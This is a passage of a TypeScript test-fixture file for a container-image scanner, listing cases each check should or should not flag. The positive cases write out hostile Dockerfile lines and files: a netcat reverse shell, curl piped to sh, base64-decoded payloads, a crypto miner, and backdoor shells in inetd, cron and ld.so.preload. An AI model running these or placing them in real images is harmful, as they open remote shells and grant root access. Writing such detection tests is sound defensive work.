      'RUN echo "app ALL=(ALL) NOPASSWD: ALL" >> /etc/sudoers',
    ],
    withFiles({ 'etc/passwd': passwd, 'etc/shadow': { content: 'root:*:19000::::::\n', mode: 0o640 } }),
  ),
  elsewhere('veinmind', 'escape:dockerapi', host),
  same(
    'veinmind',
    'privilege-escalation',
    ['setuid-file', 'sudoers-without-password', 'sudoers-everything'],
    [
      withFiles({ 'usr/bin/python3': { content: elf, mode: 0o4755 } }),
      withFiles({ 'etc/sudoers': { content: 'app ALL=(ALL) NOPASSWD: ALL\n', mode: 0o440 } }),
      withFiles({ 'etc/sudoers': { content: 'app ALL=(ALL) ALL\n', mode: 0o440 } }),
    ],
    withFiles({ 'etc/sudoers': { content: 'root ALL=(ALL) ALL\n', mode: 0o440 } }),
  ),
  same(
    'veinmind',
    'unsafe-mount',
    'volume-system-directory',
    ['VOLUME /var/run/docker.sock', 'VOLUME /proc', 'VOLUME /'],
    'VOLUME /data',
    { better: 'Mounts are those of containers; what an image asks for by VOLUME is judged.' },
  ),
  ...(
    [
      ['bashrc', 'root/.bashrc', `${shell}\n`, ['backdoor-command']],
      ['cron', 'etc/cron.d/x', `* * * * * root ${shell}\n`, ['backdoor-command', 'cron-entry']],
      ['inetd', 'etc/inetd.conf', `ingreslock stream tcp nowait root /bin/sh sh -i\n`, ['backdoor-command']],
      ['xinetd', 'etc/xinetd.d/x', `service x\n{\n  server = /bin/sh\n  server_args = -i\n}\n`, ['backdoor-command']],
      ['startup', 'etc/init.d/x', `#!/bin/sh\n${shell}\n`, ['backdoor-command', 'init-script']],
      ['ld.so.preload', 'etc/ld.so.preload', '/lib/evil.so\n', ['ld-so-preload']],
      [
        'tcpwrapper',
        'etc/hosts.allow',
        `ALL: ALL: spawn (bash -c "${shell}")\n`,
        ['backdoor-command', 'network-service-hook'],
      ],
    ] as const
  ).map(([name, path, text, by]) =>
    same('veinmind', `backdoor:${name}`, by, withFiles({ [path]: text }), withFiles({ 'etc/motd': text }), {
      row: 'backdoor:bashrc,cron,inetd,xinetd,startup,ld.so.preload,tcpwrapper',
    }),
  ),
  same(
    'veinmind',
    'backdoor:sshd',
    ['sshd-replaced', 'login-leads-to-sshd'],
    [
      withFiles({ 'usr/sbin/sshd': { content: '#!/bin/sh\nexec /usr/bin/real "$@"\n', mode: 0o755 } }),
      withFiles({
        'usr/sbin/sshd': { content: elf, mode: 0o755 },
        'tmp/su': { type: 'symlink', linkTarget: '/usr/sbin/sshd' },
      }),
    ],
    withFiles({ 'usr/sbin/sshd': { content: elf, mode: 0o755 } }),
  ),
  same(
    'veinmind',
    'backdoor:rootkit',
    'rootkit-file',
    [withFiles({ 'lib/libsh.so': 'x' }), withFiles({ 'lib/modules/diamorphine.ko': 'x' })],
    withFiles({ 'lib/libssh.so': 'x' }),
  ),
  own(
    'veinmind',
    'sensitive',
    'secret',
    withFiles({ 'srv/.env': `DB_PASSWORD=${password}\n` }),
    withFiles({ 'srv/.env': 'DB_HOST=db\n' }),
  ),
  same(
    'veinmind',
    'weakpass',
    ['service-password-guessed', 'service-open'],
    [
      withFiles({
        'opt/tomcat/conf/tomcat-users.xml':
          '<tomcat-users><user username="tomcat" password="tomcat" roles="manager-gui"/></tomcat-users>',
      }),
      withFiles({ 'etc/redis/redis.conf': 'bind 0.0.0.0\nprotected-mode no\n' }),
    ],
    withFiles({ 'etc/redis/redis.conf': 'bind 127.0.0.1\n' }),
  ),
  elsewhere('veinmind', 'trace (container)', host),
  elsewhere('dagda', 'static', 'It is what a scan does: packages with their vulnerabilities, and the check `malware`.'),
  elsewhere('dagda', 'runtime', host),
  same('whaler', 'dockerfile', 'copy-sensitive-file', 'COPY id_rsa /root/', 'COPY app /srv/', {
    only: 'buildkit',
    better: '`drydock history` rebuilds the build file; names of secrets among what is copied are told.',
  }),
  elsewhere('dive', 'efficiency', 'The report has the same measure as `efficiency`; copies that chmod makes are told.'),
];

/** What nobody else asks. */
const nobody: readonly Answer[] = [
  elsewhere(
    'nobody',
    'H-01',
    'A secret that a later layer hides is told by the check `secrets` with both layers; its own tests have it.',
  ),
  own(
    'nobody',
    'H-02',
    ['download-executed', 'download-unverified', 'package-from-address', 'add-unverified'],
    [
      'RUN curl -s https://example.org/x | sh',
      'RUN wget -O- https://example.org/x | bash',
      'RUN curl -fsSL https://example.org/a.tgz | tar -xz',
      'RUN pip install https://example.org/x.tgz',
      'ADD https://example.org/x /srv/x',
      'ONBUILD RUN curl -s https://example.org/x | sh',
    ],
    'RUN curl -fsSLO https://example.org/x && echo "00  x" | sha256sum -c && sh x',
    { only: 'buildkit', better: legacyCopy },
  ),
  own(
    'nobody',
    'H-03',
    ['verification-disabled', 'environment-unverified'],
    [
      'RUN curl -k https://example.org/x -o x',
      'RUN wget --no-check-certificate https://example.org/x',
      'RUN git config --global http.sslVerify false',
      'ENV NODE_TLS_REJECT_UNAUTHORIZED=0',
      'RUN npm config set strict-ssl false',
      'RUN pip install --trusted-host example.org x==1',
      'RUN apt-get install -y --allow-unauthenticated x',
      'RUN yum install -y --nogpgcheck x',
      'RUN apk add --allow-untrusted x.apk',
    ],
    'RUN curl -fsSL https://example.org/x -o x',
  ),
  own(
    'nobody',
    'H-04',
    ['environment-dangerous', 'path-unsafe'],
    [
      'ENV LD_PRELOAD=/lib/x.so',
      'ENV LD_LIBRARY_PATH=/tmp/lib',
      'ENV PYTHONPATH=/tmp',
      'ENV NODE_OPTIONS=--inspect=0.0.0.0',
      'ENV JAVA_TOOL_OPTIONS=-agentlib:jdwp=transport=dt_socket,server=y,address=*:5005',
      'ENV PATH=.:/bin',
      'ENV DEBUG=true',
      'ENV FLASK_ENV=development',
      'ENV DJANGO_DEBUG=1',
      withFiles({ 'opt/lib': { type: 'directory', mode: 0o777 } }, 'ENV LD_LIBRARY_PATH=/opt/lib\nRUN make'),
    ],
    ['ENV NODE_ENV=production', 'ENV DEBUG=app:*', 'ENV NODE_OPTIONS=--inspect=127.0.0.1'],
  ),
  own(
    'nobody',
    'H-05',
    ['history-future', 'layer-larger-than-instruction', 'sensitive-file-unexplained'],
    [
      { file: 'RUN make', created: '2030-01-01T00:00:00Z' },
      {
        file: 'COPY app.json /srv/',
        files: Array.from({ length: 1500 }, (_, n) => ({ path: `srv/${n}`, content: 'x' })),
      },
      withFiles({ 'srv/app': 'x', 'usr/bin/x': { content: elf, mode: 0o4755 } }, 'COPY app.json /srv/'),
    ],
    withFiles({ 'srv/app.json': '{}' }, 'COPY app.json /srv/'),
  ),
  elsewhere(
    'nobody',
    'H-06',
    'Every finding says whether it comes from the base image, as far as that is known; it is no finding of its own.',
  ),
  own(
    'nobody',
    'H-07',
    'distribution-end-of-life',
    withFiles({
      'etc/os-release': 'ID=debian\nVERSION_ID="8"\nPRETTY_NAME="Debian 8"\n',
      'etc/debian_version': '8.11\n',
    }),
    withFiles({ 'etc/os-release': 'ID=debian\nVERSION_ID="13"\n', 'etc/debian_version': '13.1\n' }),
  ),
  own('nobody', 'H-08', 'created-unknown', { file: 'RUN make', created: '1970-01-01T00:00:00Z' }, 'RUN make'),
  elsewhere('nobody', 'H-09', 'An imported image is told as `history-blind`; see the tests of what is undecided.'),
  own(
    'nobody',
    'H-10',
    ['port-privileged', 'port-admin'],
    ['USER 1000\nEXPOSE 80', 'EXPOSE 2375', 'EXPOSE 5005', 'EXPOSE 9229', 'EXPOSE 6379'],
    ['USER 1000\nEXPOSE 8080', 'EXPOSE 80'],
  ),
  own(
    'nobody',
    'H-11',
    'start-target',
    [
      'CMD ["/srv/absent"]',
      withFiles({ 'srv/app': { content: '#!/bin/sh\n', mode: 0o777 } }, 'RUN make\nENTRYPOINT ["/srv/app"]'),
      withFiles({ 'srv/app': { content: '#!/bin/sh\n', mode: 0o775 } }, 'RUN make\nENTRYPOINT ["/srv/app"]'),
      withFiles({ 'srv/app': { content: '#!/bin/sh\n', mode: 0o644 } }, 'RUN make\nENTRYPOINT ["/srv/app"]'),
      withFiles(
        { 'srv/app': { content: '#!/bin/sh\n', mode: 0o755, uid: 1000 } },
        'RUN make\nUSER 1000\nENTRYPOINT ["/srv/app"]',
      ),
    ],
    withFiles({ 'srv/app': { content: '#!/bin/sh\n', mode: 0o755 } }, 'RUN make\nUSER 1000\nENTRYPOINT ["/srv/app"]'),
  ),
  own(
    'nobody',
    'H-12',
    ['volume-changed-later', 'volume-over-code'],
    [withFiles({ 'data/seed': 'x' }, 'VOLUME /data\nCOPY seed /data/'), 'VOLUME /srv\nCMD ["/srv/app"]'],
    withFiles({ 'data/seed': 'x' }, 'COPY seed /data/\nVOLUME /data\nCMD ["/srv/app"]'),
  ),
  own(
    'nobody',
    'H-13',
    ['onbuild-present', 'download-executed'],
    ['ONBUILD RUN make', 'ONBUILD RUN curl https://example.org/x | sh'],
    'RUN make',
  ),
  own(
    'nobody',
    'H-14',
    ['stop-signal-kill', 'start-shell-form', 'start-without-init'],
    ['STOPSIGNAL SIGKILL', 'STOPSIGNAL 9', 'CMD /srv/app', 'ENTRYPOINT ["/start.sh"]'],
    'STOPSIGNAL SIGTERM\nENTRYPOINT ["tini", "--", "/start.sh"]',
  ),
  own(
    'nobody',
    'H-15',
    'label-acts',
    [
      'LABEL RUN="podman run --privileged -v /:/host IMAGE"',
      'LABEL INSTALL="podman run IMAGE"',
      'LABEL ofelia.job-exec.x.command="sh"',
    ],
    'LABEL org.opencontainers.image.title=app',
  ),
  own(
    'nobody',
    'H-15',
    'label-source-missing',
    'RUN make',
    'LABEL org.opencontainers.image.source=https://example.org/app.git',
  ),
  own(
    'nobody',
    'H-16',
    [
      'chmod-everybody',
      'chown-system-directory',
      'user-in-privileged-group',
      'sudo-without-password',
      'chmod-set-id',
      'password-in-instruction',
    ],
    [
      'RUN chmod -R 777 /srv',
      'RUN chown -R app /usr',
      'RUN usermod -aG docker app',
      'RUN echo "app ALL=(ALL) NOPASSWD: ALL" > /etc/sudoers.d/app',
      'RUN setcap cap_sys_admin+ep /usr/bin/x',
      `RUN echo 'root:${password}' | chpasswd`,
    ],
    ['RUN chmod 755 /srv && chown -R app /srv/data'],
  ),
  elsewhere(
    'nobody',
    'H-17',
    'Compilers that packages bring are told as `build-tools-left`; its own tests have packages.',
  ),
  own(
    'nobody',
    'H-18',
    ['miner', 'reverse-shell', 'decoded-and-run', 'hidden-place', 'schedule-by-run'],
    [
      'RUN ./x -o stratum+tcp://pool.example:3333',
      `RUN ${shell}`,
      'RUN nc -e /bin/sh 192.0.2.1 4444',
      'RUN echo aGk= | base64 -d | sh',
      'RUN mkdir -p /tmp/.X11-unix/...',
      'RUN echo "* * * * * root /x" > /etc/cron.d/x',
    ],
    'RUN make && make install',
  ),
  own(
    'nobody',
    'H-19',
    'package-files-left',
    withFiles({ 'var/cache/apt/archives/x_1_amd64.deb': 'x' }),
    withFiles({ 'var/cache/apt/archives/lock': '' }),
  ),
  elsewhere(
    'nobody',
    'H-20',
    'Copies that chmod makes are told as `files-copied-by-chmod` from a megabyte on; its own tests have them.',
  ),
];

/** All of them. */
export const answers: readonly Answer[] = [...dockle, ...trivy, ...hadolint, ...cis, ...veinmind, ...nobody];
